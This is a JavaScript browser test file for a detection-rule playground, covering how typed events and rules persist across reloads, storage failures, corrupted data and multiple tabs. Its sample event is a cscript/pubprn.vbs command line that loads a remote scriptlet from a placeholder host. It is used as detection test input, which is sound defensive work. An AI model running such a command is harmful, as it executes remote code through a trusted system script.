// What the browser keeps for the next visit: nothing typed is lost, whatever becomes of the storage.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openPage } from './browser.mjs';
import { read, write } from './editor.mjs';
import { journey } from './journey.mjs';
import { headline, openRules, paste, writeRule } from './states.mjs';

const scriptlet = 'cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs a script:http://b';
const events = (page) => page.getByLabel('Events: command lines or log records');
const ready = (page) => page.getByTestId('worker-state').getByText('Ready').waitFor();
const rule = (word) =>
  `title: ${word}\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  a:\n    CommandLine|contains: ${word}\n  condition: a\n`;

journey('what was typed a moment before a reload is there again', async (page) => {
  for (const round of ['one', 'two', 'three', 'four']) {
    await paste(page, `${scriptlet} ${round}`);
    await page.reload();
    await ready(page);
    await headline(page, 'The event matches');
    assert.equal(await read(events(page)), `${scriptlet} ${round}`);
  }
});

journey('a reload in the middle of a run begins it anew', async (page) => {
  const lines = Array.from({ length: 30_000 }, (_, n) => `C:\\Tools\\job.exe /run ${n}`);
  await write(events(page), [scriptlet, ...lines].join('\n'));
  await page.getByText('30,001 lines').waitFor();
  await page.reload();
  await headline(page, '1 of 30,001 events matches');
});

/** Opens the page in a browser that was prepared by `script`, and shows what it says and still does. */
async function withStorage(script, steps) {
  const { page, troubles, close } = await openPage();
  try {
    await page.addInitScript(script);
    await page.reload();
    await ready(page);
    await steps(page);
    assert.deepEqual(troubles, []);
  } finally {
    await close();
  }
}

test('without storage everything works but the next visit', { timeout: 180_000 }, () =>
  withStorage(
    () => Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('no', 'SecurityError'); } }),
    async (page) => {
      await paste(page, scriptlet);
      await headline(page, 'The event matches');
      await page.getByText('will not come back after a reload: this browser allows no storage here').waitFor();
    },
  ));

test('storage that is full says so, and the text stays on the screen', { timeout: 180_000 }, () =>
  withStorage(
    () => {
      Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); };
    },
    async (page) => {
      await paste(page, scriptlet);
      await headline(page, 'The event matches');
      await page.getByText('The text will not come back after a reload: it is too long').waitFor();
      assert.equal(await read(events(page)), scriptlet);
    },
  ));

journey('what is broken in the storage is set aside, and the rest comes back', async (page) => {
  await writeRule(page, rule('frobnicate'));
  await page.getByText('No problems found.').waitFor();
  await page.waitForFunction(() => localStorage.getItem('cutout.choices')?.includes('frobnicate'));
  const broken = await page.evaluate(() => {
    const choices = JSON.parse(localStorage.getItem('cutout.choices'));
    choices.theme = 'sepia';
    choices.own.push({ key: 7 });
    const text = JSON.stringify(choices);
    localStorage.setItem('cutout.choices', text);
    return text;
  });
  await page.reload();
  await page.getByText('Not all that this browser kept of your rules and choices could be read.').waitFor();
  await page.getByRole('link', { name: 'Playground', exact: true }).click();
  await paste(page, 'frobnicate.exe');
  await headline(page, 'The event matches');
  assert.equal(await page.evaluate(() => localStorage.getItem('cutout.choices.unreadable')), broken);
});

journey('two tabs share rules and keep their own text', async (page) => {
  const other = await page.context().newPage();
  await other.goto(page.url());
  await ready(other);
  await paste(page, 'frobnicate.exe');
  await paste(other, 'discombobulate.exe');
  await headline(other, 'The event does not match');

  await writeRule(page, rule('discombobulate'));
  await headline(other, 'The event matches');
  await writeRule(other, rule('frobnicate'));
  await page.getByRole('link', { name: 'Playground', exact: true }).click();
  await headline(page, 'The event matches');
  assert.equal(await read(events(page)), 'frobnicate.exe');

  await openRules(page);
  await page.getByRole('link', { name: /discombobulate/ }).first().waitFor();
  await page.getByRole('link', { name: /frobnicate/ }).first().waitFor();
});
